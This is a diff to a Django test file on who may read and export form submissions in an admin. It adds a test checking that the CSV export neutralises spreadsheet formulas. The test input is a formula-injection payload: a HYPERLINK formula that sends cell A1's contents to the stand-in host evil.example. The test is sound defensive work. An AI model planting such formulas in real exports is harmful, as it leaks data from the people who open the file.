@@ -1,5 +1,8 @@
 """Only permitted users can read and export submissions in the admin."""
 
+import csv
+import io
+
 from django.contrib.auth.models import Group, Permission
 from django.urls import reverse
 
@@ -67,3 +70,17 @@ def test_editor_with_page_permission_can_read_submissions(
     user.groups.add(group)
     client.force_login(user)
     assert client.get(list_url(contact)).status_code == 200
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_neutralises_spreadsheet_formulas(admin_client_de, contact, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Klick")'
+    FormSubmission.objects.create(page=contact, form_data={"name": formula, "e_mail": "x@y.de"})
+
+    response = admin_client_de.get(list_url(contact), {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+
+    rows = list(csv.reader(io.StringIO(content)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + formula in cells
+    assert formula not in cells
